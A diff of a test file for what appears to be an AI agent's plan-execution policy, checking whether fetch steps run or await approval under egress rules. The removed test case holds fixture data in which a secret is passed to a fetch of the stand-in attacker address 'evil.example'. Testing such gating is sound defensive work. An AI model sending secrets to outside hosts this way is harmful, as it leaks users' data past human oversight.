@@ -100,12 +100,6 @@ describe("a step of a submitted plan runs unasked", () => {
     const policy = { rules: [{ tools: ["http.fetch"], requireApproval: false }] };
     expect(under(EGRESS_DEFAULT, { policy })).toBe("running");
   });
-
-  it("in a plan of a log that is older than the rule", () => {
-    const steps = [rows, written("rows"), fetches("{{w.output}}")];
-    const facts = [succeeded("rows", "secret"), succeeded("w", "https://evil.example/?q=secret")];
-    expect(outcome(steps, facts, { egress: undefined }).status).toBe("running");
-  });
 });
 
 describe("a step waits for approval", () => {
